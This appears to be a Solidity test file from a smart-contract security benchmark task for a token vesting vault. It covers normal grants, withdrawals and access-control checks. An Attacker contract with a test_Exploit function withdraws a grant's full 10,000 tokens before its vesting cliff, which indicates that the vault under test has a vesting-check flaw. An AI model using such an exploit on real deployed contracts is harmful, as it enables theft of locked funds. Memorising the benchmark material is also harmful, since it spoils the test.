// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./ScheduleVault.sol";
import "./context/Schedules.sol";
import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";

// assay-canary-556fb2f3-ee9c-4b59-a7f7-ab807a6deae2

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1000000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant GOV = address(0x609);
    address private constant GUARD = address(0x64A);
    uint256 private constant START = 1700000000;

    Coin private coin;
    Coin private other;
    ScheduleVault private vault;
    LinearSchedule private linear;
    StepSchedule private step;
    UpfrontSchedule private upfront;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        other = new Coin();
        vault = new ScheduleVault(coin, GOV);
        linear = new LinearSchedule(1460 days, 365 days);
        step = new StepSchedule(300 days, 10);
        upfront = new UpfrontSchedule(100 days, 2000);
        mallory = new Attacker(vault);
        coin.transfer(GOV, 100000e18);
        vm.startPrank(GOV);
        coin.approve(address(vault), 100000e18);
        vault.set_guardian(GUARD);
        vault.set_schedule(address(linear), true);
        vault.set_schedule(address(step), true);
        vault.set_schedule(address(upfront), true);
        vault.grant(ANA, 14600e18, address(linear), START);
        vault.grant(BEN, 1000e18, address(step), START);
        vault.grant(address(mallory), 10000e18, address(linear), START + 90 days);
        vm.stopPrank();
    }

    function nothingIsTakenEarly() public view returns (bool) {
        (, address schedule, uint256 start, uint256 amount, uint256 taken) = vault.grants(2);
        if (schedule == address(0)) return true;
        if (block.timestamp < start + 365 days) return taken == 0;
        uint256 elapsed = block.timestamp - start;
        return elapsed >= 1460 days || taken <= amount * elapsed / 1460 days;
    }

    function test_Regular() public {
        vm.warp(START + 60 days);
        vm.prank(BEN);
        vault.take(1, 200e18);
        require(coin.balanceOf(BEN) == 200e18 && vault.free(1) == 0 && vault.locked(1) == 800e18, "two steps");
        vm.warp(START + 365 days);
        vm.startPrank(ANA);
        vault.take(0, 3000e18);
        vault.pass(0, BEN);
        vm.stopPrank();
        require(vault.free(0) == 650e18, "a quarter");
        uint256[] memory ids = new uint256[](1);
        ids[0] = 1;
        vm.prank(BEN);
        require(vault.take_all(ids) == 800e18 && vault.idle() == 0, "all of it");
        vm.startPrank(GOV);
        require(vault.recall(0) == 10950e18, "three quarters");
        address[] memory to = new address[](2);
        uint256[] memory amounts = new uint256[](2);
        (to[0], to[1], amounts[0], amounts[1]) = (ANA, BEN, 100e18, 200e18);
        vault.grant_many(to, amounts, address(upfront), START + 400 days);
        require(vault.recall(3) == 100e18, "not begun");
        require(vault.grant(ANA, 5e18, address(0), START + 365 days) == 5 && vault.length() == 6, "free");
        vault.set_governance(ANA);
        vm.stopPrank();
        vm.prank(BEN);
        vault.take(0, 650e18);
        vm.warp(START + 450 days);
        require(vault.free(4) == 120e18, "a fifth, and half of the rest");
        vm.prank(GUARD);
        vault.pause();
        vm.prank(BEN);
        require(vault.renounce(4) == 200e18 && vault.free(4) == 0, "renounced");
        other.transfer(address(vault), 3);
        coin.transfer(address(vault), 2);
        vm.startPrank(ANA);
        vault.accept_governance();
        vault.unpause();
        vault.take(5, 5e18);
        require(vault.sweep(other) == 3 && vault.sweep(coin) == 2 && vault.owed() == 10000e18, "swept");
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.expectRevert("!governance");
        vault.set_governance(ANA);
        vm.expectRevert("!pending");
        vault.accept_governance();
        vm.expectRevert("!governance");
        vault.set_guardian(ANA);
        vm.expectRevert("!guardian");
        vault.pause();
        vm.expectRevert("!governance");
        vault.unpause();
        vm.expectRevert("!governance");
        vault.set_schedule(ANA, true);
        vm.expectRevert("!governance");
        vault.grant(ANA, 1, address(0), START);
        vm.expectRevert("!governance");
        vault.grant_many(new address[](0), new uint256[](0), address(0), START);
        vm.expectRevert("!governance");
        vault.recall(0);
        vm.expectRevert("!governance");
        vault.sweep(other);
        vm.expectRevert("!to");
        vault.pass(0, BEN);
        vm.expectRevert("!governance");
        new ScheduleVault(coin, address(0));
        vm.expectRevert("!want");
        new ScheduleVault(IERC20(address(0)), GOV);
    }

    function test_RefusesGrants() public {
        vm.startPrank(GOV);
        vm.expectRevert("!schedule");
        vault.set_schedule(address(0), true);
        vm.expectRevert("!to");
        vault.grant(address(0), 1, address(0), START);
        vm.expectRevert("!amount");
        vault.grant(ANA, 0, address(0), START);
        vm.expectRevert("!schedule");
        vault.grant(ANA, 1, ANA, START);
        vm.expectRevert("!start");
        vault.grant(ANA, 1, address(0), START - 1);
        vm.expectRevert("!start");
        vault.grant(ANA, 1, address(0), START + 730 days + 1);
        vault.grant(ANA, 1, address(0), START + 730 days);
        vm.expectRevert("!batch");
        vault.grant_many(new address[](1), new uint256[](2), address(0), START);
        vm.expectRevert("!batch");
        vault.grant_many(new address[](51), new uint256[](51), address(0), START);
        vm.expectRevert("!schedule");
        vault.recall(3);
        vm.expectRevert("!amount");
        vault.sweep(other);
        vault.pause();
        vm.stopPrank();
        vm.startPrank(ANA);
        vm.expectRevert("!paused");
        vault.take(3, 1);
        uint256[] memory ids = new uint256[](1);
        ids[0] = 3;
        vm.expectRevert("!paused");
        vault.take_all(ids);
        vm.stopPrank();
    }

    function test_RefusesGrantees() public {
        vm.warp(START + 60 days);
        vm.expectRevert("!to");
        vault.take(1, 1);
        uint256[] memory ids = new uint256[](1);
        ids[0] = 1;
        vm.expectRevert("!to");
        vault.take_all(ids);
        vm.expectRevert("!to");
        vault.renounce(1);
        vm.startPrank(BEN);
        vm.expectRevert("!vested");
        vault.take(1, 0);
        vm.expectRevert("!vested");
        vault.take(1, 200e18 + 1);
        vm.expectRevert("!to");
        vault.pass(1, address(0));
        vm.stopPrank();
    }

    function test_RefusesSchedules() public {
        vm.expectRevert("!duration");
        new LinearSchedule(0, 0);
        vm.expectRevert("!duration");
        new LinearSchedule(3650 days + 1, 0);
        vm.expectRevert("!cliff");
        new LinearSchedule(10 days, 10 days + 1);
        vm.expectRevert("!steps");
        new StepSchedule(10 days, 0);
        vm.expectRevert("!steps");
        new StepSchedule(10 days, 121);
        vm.expectRevert("!upfront");
        new UpfrontSchedule(10 days, 10000);
        vm.expectRevert("!steps");
        new MilestoneSchedule(10 days, 0, ANA);
        vm.expectRevert("!steps");
        new MilestoneSchedule(10 days, 121, ANA);
        vm.expectRevert("!reviewer");
        new MilestoneSchedule(10 days, 1, address(0));
        MilestoneSchedule milestone = new MilestoneSchedule(10 days, 1, ANA);
        vm.expectRevert("!reviewer");
        milestone.confirm();
        vm.expectRevert("!reviewer");
        milestone.set_reviewer(BEN);
        vm.startPrank(ANA);
        vm.expectRevert("!reviewer");
        milestone.set_reviewer(address(0));
        milestone.confirm();
        vm.expectRevert("!steps");
        milestone.confirm();
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(!nothingIsTakenEarly() && coin.balanceOf(address(mallory)) == 10000e18, "nothing taken");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    ScheduleVault private vault;

    constructor(ScheduleVault v) {
        vault = v;
    }

    function run() external {
        vault.take(2, 10000e18);
    }
}
